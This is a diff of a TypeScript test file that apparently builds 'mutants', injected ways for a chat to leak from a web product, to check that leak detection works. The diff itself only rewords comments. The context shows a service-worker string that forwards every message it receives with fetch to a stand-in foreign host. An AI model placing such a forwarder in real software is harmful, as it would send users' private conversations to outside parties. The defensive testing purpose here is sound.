@@ -19,7 +19,7 @@ type Leak = (ways: Ways) => void
 /** A way to lose a chat, as a mistake or a bad dependency could bring it into the built product. */
 export interface Mutant {
   name: string
-  /** Stands in every address it uses, so that what is caught is the leak and no accident. */
+  /** Is in every address it uses, so that what is caught is the leak and no accident. */
   mark: string
   /** Beside it another would not come to what it does, or be stopped by nothing. */
   isAlone: boolean
@@ -102,7 +102,7 @@ const engineOfTheOldKind: Alter = (path, answer) => {
   return { ...answer, body: answer.body.replace(/\{type:[`"']module[`"'],name:/, '{name:').replaceAll('import.meta.url', 'location.href') }
 }
 
-/** A service worker that takes what the page tells it and forwards it. */
+/** A service worker that takes what the page sends it and forwards it. */
 const forwarder = (mark: string): Alter => {
   const code = `addEventListener('message', ({ data }) => fetch('http://${foreignHost}/${mark}?' + encodeURIComponent(data), { mode: 'no-cors' }))`
   return (path) => (path === `/${mark}.js` ? { status: 200, headers: { 'content-type': 'text/javascript' }, body: code } : null)
@@ -207,7 +207,7 @@ const plants: Record<string, (mark: string, stunPort: number) => Alter> = {
   'own nested worker': inEngine(({ own }) => void new Worker(own)),
 }
 
-/** They take the page away, or the policy that stops the others; or, among many, are at times not told of by the browser. */
+/** They take the page away, or the policy that stops the others; or, among many, are at times not reported by the browser. */
 const alone = new Set([
   'navigation',
   'own navigation',
